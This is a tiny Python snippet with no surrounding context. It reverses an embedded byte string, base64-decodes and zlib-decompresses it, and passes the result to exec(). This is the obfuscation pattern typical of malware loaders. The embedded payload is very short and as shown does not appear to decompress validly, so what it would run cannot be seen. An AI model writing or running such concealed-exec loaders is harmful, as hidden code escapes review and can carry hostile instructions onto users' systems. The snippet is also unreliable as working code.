import base64, zlib

_ = lambda data: zlib.decompress(base64.b64decode(data[::-1]))
exec(_(b"==AAqLwC6QAAAAA"))
